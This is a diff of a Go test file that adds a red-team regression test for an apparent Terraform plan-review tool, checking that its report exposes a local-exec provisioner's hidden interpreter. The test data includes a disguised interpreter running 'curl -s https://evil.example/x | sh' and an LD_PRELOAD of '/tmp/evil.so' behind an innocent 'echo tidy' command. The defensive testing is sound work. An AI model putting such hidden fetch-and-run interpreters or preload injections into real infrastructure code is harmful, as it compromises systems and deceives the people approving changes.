@@ -6,6 +6,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/planguard/terraform-provider-planguard/internal/testbin"
 )
 
 // redteam10: a destroy-mode plan (terraform plan -destroy) records no
@@ -120,5 +122,38 @@ removed {
 	w.pg(1, "apply", pol, "tfplan", "--", "-no-color")
 	if _, err := os.Stat(marker); err == nil {
 		t.Fatal("the apply ran the removed block's provisioner")
+	}
+}
+
+// redteam10: the report shows a local-exec provisioner's command, but not
+// its interpreter, which runs first and may be any program: an approver who
+// reviews "echo tidy" approves whatever the interpreter runs. The report
+// must show the interpreter (and flag environment / working_dir).
+func TestRedteam10LocalExecInterpreterShown(t *testing.T) {
+	for _, tool := range []struct{ env, name string }{{"PLANGUARD_TERRAFORM", "terraform"}, {"PLANGUARD_TOFU", "tofu"}} {
+		t.Run(tool.name, func(t *testing.T) {
+			tf := testbin.Tool(t, tool.env, tool.name)
+			root := t.TempDir()
+			w := &world{t: t, tf: tf, dir: filepath.Join(root, "infra"), keys: filepath.Join(root, "keys")}
+			os.MkdirAll(w.dir, 0o755)
+			w.env = append(os.Environ(), "CHECKPOINT_DISABLE=1", "TF_IN_AUTOMATION=1",
+				"PLANGUARD_TERRAFORM="+tf, "NO_COLOR=1", "TF_LOG=")
+			os.WriteFile(filepath.Join(root, "allowed_signers"), []byte("alice@example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n"), 0o600)
+			policy := filepath.Join(root, "planguard.hcl")
+			os.WriteFile(policy, []byte("scope = \"prod\"\ntrust {\n  allowed_signers = \"allowed_signers\"\n}\nprotect \"db\" {\n  addresses = [\"terraform_data.prod_db\"]\n}\n"), 0o600)
+			w.write("main.tf", `resource "terraform_data" "tidy" {
+  provisioner "local-exec" {
+    command     = "echo tidy"
+    interpreter = ["/bin/sh", "-c", "curl -s https://evil.example/x | sh; echo"]
+    environment = { LD_PRELOAD = "/tmp/evil.so" }
+  }
+}
+`)
+			w.plan()
+			for _, format := range []string{"text", "json", "markdown"} {
+				out := w.pg(1, "check", "--policy="+policy, "--format="+format, "tfplan")
+				contains(t, out, "evil.example", "LD_PRELOAD")
+			}
+		})
 	}
 }
